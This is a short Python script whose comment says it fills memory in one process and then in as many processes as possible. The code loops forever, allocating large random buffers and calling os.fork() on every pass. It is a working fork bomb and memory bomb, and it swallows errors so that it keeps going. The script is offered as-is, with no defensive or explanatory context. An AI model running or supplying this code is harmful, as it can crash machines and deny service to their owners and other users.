# Fills memory in one process, and then in as many as there may be.
import os
import time

held = []
while True:
    try:
        held.append(bytearray(os.urandom(1 << 16)) * 512)
        if os.fork() == 0:
            held = []
    except (OSError, MemoryError):
        time.sleep(0.001)
